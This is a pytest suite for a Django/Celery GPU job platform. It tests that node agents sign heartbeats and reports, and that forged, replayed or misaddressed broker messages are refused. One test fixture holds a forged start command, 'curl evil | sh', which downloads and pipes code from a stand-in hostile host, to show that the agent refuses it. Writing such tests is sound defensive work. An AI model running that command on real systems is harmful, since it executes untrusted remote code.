"""Agents authenticate (issue #27, item 2): each tried from the other side of the broker, by someone
who can write to Redis (a forged heartbeat, a forged or replayed report, reading another node's
start message, sending a node a start message of their own)."""

import logging
import stat
import time

import pytest
from django.core.management import CommandError, call_command

from agent import auth, runtime
from agent import tasks as agent_tasks
from agent.runtime import Agent
from console import demo
from jobs import agents, dispatch
from jobs import tasks as platform_tasks
from jobs.logs import read_all
from jobs.models import PodMetric
from quotas.models import AgentCredential, Executor, Node, Quota, Tenant

pytestmark = pytest.mark.django_db

VICTIM_SECRET = "hunter2-wandb-key"


def beat(node, **extra):
    return {"node": node, "hostname": f"{node}.lan", "executor": "process", "cpu": 96, "memory_mib": 1024 * 1024,
            "gpus": [{"index": i, "uuid": f"GPU-{node}-{i}", "name": "H100", "memory_mib": 81920} for i in range(8)],
            "running_pod_ids": [], "at": "2026-01-01T00:00:00+00:00", **extra}


def heartbeat(token, agent, payload, **kwargs):
    platform_tasks.heartbeat(auth.sign(token, agent, "nodes.heartbeat", payload, **kwargs))


def report(token, agent, pod_id, status="Failed"):
    items = [{"pod_id": pod_id, "status": status, "exit_code": 1, "at": None, "reason": "Error", "message": "x"}]
    platform_tasks.pod_reports(auth.sign(token, agent, "jobs.pod_reports", items))


@pytest.fixture
def quota(db):
    return Quota.objects.create(quota_id="quotavictim01", name="victim-team", tenant=Tenant.objects.create(name="v"))


def test_a_heartbeat_of_an_unregistered_node_registers_nothing_and_is_logged(quota, caplog):
    with caplog.at_level(logging.WARNING):
        heartbeat("a-token-nobody-issued", "rogue", beat("rogue", quota="victim-team"))
        platform_tasks.heartbeat(beat("rogue"))  # an agent that signs nothing
    assert not Node.objects.exists()
    assert "no agent 'rogue' is registered" in caplog.text and "not a signed envelope" in caplog.text


def test_a_registered_node_joins_the_quota_its_admin_chose_and_no_other(quota):
    token = agents.register("gpu-a", quota)
    heartbeat(token, "gpu-a", beat("gpu-a", quota="public"))
    assert Node.objects.get(name="gpu-a").quota == quota
    other = agents.register("gpu-b")
    heartbeat(other, "gpu-b", beat("gpu-b", quota="victim-team"))
    assert Node.objects.get(name="gpu-b").quota is None


def test_a_node_cannot_heartbeat_for_another_nor_sign_with_anothers_name(quota):
    mine = agents.register("gpu-a")
    agents.register("gpu-victim", quota)
    heartbeat(mine, "gpu-a", beat("gpu-victim"))  # its own signature, another node's heartbeat
    heartbeat(mine, "gpu-victim", beat("gpu-victim"))  # another node's name, its own key
    heartbeat(mine, "gpu-a", {"node": None, "at": "2026-01-01T00:00:00+00:00"})  # the simulated agent's
    assert not Node.objects.exists()


def test_an_altered_or_replayed_heartbeat_is_refused(quota, settings):
    token = agents.register("gpu-a")
    envelope = auth.sign(token, "gpu-a", "nodes.heartbeat", beat("gpu-a"))
    platform_tasks.heartbeat({**envelope, "body": envelope["body"].replace('"cpu":96', '"cpu":960')})
    platform_tasks.heartbeat(auth.sign(token, "gpu-a", "jobs.pod_logs", beat("gpu-a")))  # another task's
    heartbeat(token, "gpu-a", beat("gpu-a"), now=time.time() - settings.OPENDLC_AGENT_REPLAY_WINDOW_S - 5)
    assert not Node.objects.exists()
    platform_tasks.heartbeat(envelope)
    assert Node.objects.get(name="gpu-a").spec.cpu == 96


def test_a_reissued_token_replaces_the_old_one(quota):
    old = agents.register("gpu-a")
    new = agents.register("gpu-a")
    heartbeat(old, "gpu-a", beat("gpu-a"))
    assert not Node.objects.exists()
    heartbeat(new, "gpu-a", beat("gpu-a"))
    assert Node.objects.filter(name="gpu-a").exists()


def test_a_report_about_a_pod_of_another_node_is_refused(spec, make_pod, caplog):
    mine, theirs = (Node.objects.create(name=n, spec=spec, executor=Executor.PROCESS) for n in ("gpu-a", "gpu-b"))
    simulated = Node.objects.create(name="sim-0", spec=spec, executor=Executor.SIMULATED)
    own_pod, victim, sim_pod = make_pod(mine), make_pod(theirs), make_pod(simulated)
    token, sim_token = agents.register("gpu-a"), agents.register("simulated")
    with caplog.at_level(logging.WARNING):
        report(token, "gpu-a", victim.pod_id)
        report(token, "gpu-a", sim_pod.pod_id)
        report(sim_token, "simulated", victim.pod_id)
    for pod in (victim, sim_pod):
        pod.refresh_from_db()
        assert pod.status == "Running"
    assert "pods not bound to it" in caplog.text
    report(token, "gpu-a", own_pod.pod_id)
    report(sim_token, "simulated", sim_pod.pod_id)
    own_pod.refresh_from_db()
    sim_pod.refresh_from_db()
    assert own_pod.status == sim_pod.status == "Failed"


def test_logs_progress_and_metrics_about_another_nodes_pod_are_refused(spec, make_pod):
    theirs = Node.objects.create(name="gpu-b", spec=spec, executor=Executor.PROCESS)
    victim = make_pod(theirs)
    token = agents.register("gpu-a")
    platform_tasks.pod_logs(auth.sign(token, "gpu-a", "jobs.pod_logs",
                                      [{"pod_id": victim.pod_id, "offset": 0, "text": "forged\n"}]))
    platform_tasks.pod_progress(auth.sign(token, "gpu-a", "jobs.pod_progress",
                                          [{"pod_id": victim.pod_id, "progress_at": "2026-01-01T00:00:00+00:00"}]))
    platform_tasks.pod_metrics(auth.sign(token, "gpu-a", "jobs.pod_metrics",
                                         [{"pod_id": victim.pod_id, "at": None, "cpu_m": 1, "mem_mib": 1}]))
    victim.job.refresh_from_db()
    assert read_all(victim) == "" and victim.job.last_progress_at is None and not PodMetric.objects.exists()


@pytest.fixture
def sent_tasks(monkeypatch):
    from console.celery import app

    sent = []
    monkeypatch.setattr(app, "send_task", lambda name, args, queue: sent.append((name, queue, args[0])))
    return sent


def start_message(node):
    return dispatch.Message(dispatch.START_POD, {"pod_id": f"{node}-pod", "node": node,
                                                 "env": {"WANDB_API_KEY": VICTIM_SECRET}}, f"agent.{node}")


def test_a_start_message_is_read_only_by_its_nodes_agent(sent_tasks):
    mine, victims = agents.register("gpu-a"), agents.register("gpu-b")
    dispatch.send([start_message("gpu-b")])
    ((task, queue, sealed),) = sent_tasks
    assert (task, queue) == ("agent.start_pods", "agent.gpu-b") and VICTIM_SECRET not in sealed
    with pytest.raises(auth.Refused):
        auth.unseal(mine, "agent.start_pods", sealed, 600)
    assert auth.unseal(victims, "agent.start_pods", sealed, 600)[0]["env"]["WANDB_API_KEY"] == VICTIM_SECRET


def test_a_node_without_a_credential_is_sent_nothing(sent_tasks, caplog):
    with caplog.at_level(logging.ERROR):
        dispatch.send([start_message("gpu-unregistered")])
    assert sent_tasks == [] and "it has no credential" in caplog.text


class StubExecutor:
    kind = "process"

    def __init__(self):
        self.started, self.stopped = [], []

    def start(self, spec):
        self.started.append(spec["pod_id"])

    def stop(self, pod_id, reason, grace_s):
        self.stopped.append(pod_id)


@pytest.fixture
def agent_a(monkeypatch):
    token = agents.register("gpu-a")
    agent = Agent("gpu-a", StubExecutor(), None, None, send_heartbeat=None, heartbeat_s=60, token=token,
                  replay_window_s=600)
    monkeypatch.setattr(runtime, "_current", agent)
    return agent


def test_an_agent_runs_only_what_the_platform_sealed_for_it(agent_a, sent_tasks):
    forged = [{"pod_id": "mine", "command": "curl evil | sh", "env": {}}]
    agent_tasks.start_pods(forged)  # plain, as anyone who writes to Redis can send it
    agent_tasks.start_pods(auth.seal("guessed-token", "agent.start_pods", forged))
    agent_tasks.start_pods(auth.seal(agent_a.token, "agent.stop_pods", forged))  # a stop sealed for it, as a start
    agent_tasks.stop_pods([{"pod_id": "mine", "reason": "Stopped", "grace_s": 0}])
    assert agent_a.executor.started == [] and agent_a.executor.stopped == []
    dispatch.send([start_message("gpu-a"), dispatch.Message(dispatch.STOP_POD, {"pod_id": "gpu-a-pod"}, "agent.gpu-a")])
    for task, _, sealed in sent_tasks:
        (agent_tasks.start_pods if task == "agent.start_pods" else agent_tasks.stop_pods)(sealed)
    assert agent_a.executor.started == agent_a.executor.stopped == ["gpu-a-pod"]


def test_the_agent_signs_what_it_sends_as_its_node(agent_a):
    sent = []
    agent_a._send_heartbeat = sent.append
    agent_a.executor.running_pod_ids = list
    agent_a.beat_once()
    (envelope,) = sent
    assert envelope["agent"] == "gpu-a"
    assert auth.verify(agent_a.token, "nodes.heartbeat", envelope, 600)["node"] == "gpu-a"


def test_register_node_prints_a_token_once_and_keeps_it_only_encrypted(quota, capsys, tmp_path):
    call_command("register_node", "gpu-a", "--quota", "quotavictim01")
    token = capsys.readouterr().out.strip().removeprefix("OPENDLC_AGENT_TOKEN=")
    credential = AgentCredential.objects.get(name="gpu-a")
    assert credential.quota == quota and token not in credential.token_encrypted and credential.token == token
    call_command("register_node", "--simulated", "--token-file", str(tmp_path / "sim.token"))
    assert (tmp_path / "sim.token").read_text().strip() == AgentCredential.objects.get(name="simulated").token
    assert stat.S_IMODE((tmp_path / "sim.token").stat().st_mode) == 0o600
    with pytest.raises(CommandError, match="--quota: no quota"):
        call_command("register_node", "gpu-b", "--quota", "nope")


def test_an_agent_without_a_token_does_not_start(monkeypatch):
    from console.management.commands.agent import join_token

    monkeypatch.delenv("OPENDLC_AGENT_TOKEN", raising=False)
    with pytest.raises(CommandError, match="register_node gpu-a"):
        join_token("", "gpu-a")
    monkeypatch.setenv("OPENDLC_AGENT_TOKEN", "t0k")
    assert join_token("", "gpu-a") == "t0k"


def test_the_demo_agents_get_tokens_where_the_procfile_reads_them_once(tmp_path):
    assert demo.agent_tokens(tmp_path) == ["local", "simulated"]
    for name in ("local", "simulated"):
        assert (tmp_path / f"{name}.token").read_text().strip() == AgentCredential.objects.get(name=name).token
    assert demo.agent_tokens(tmp_path) == []
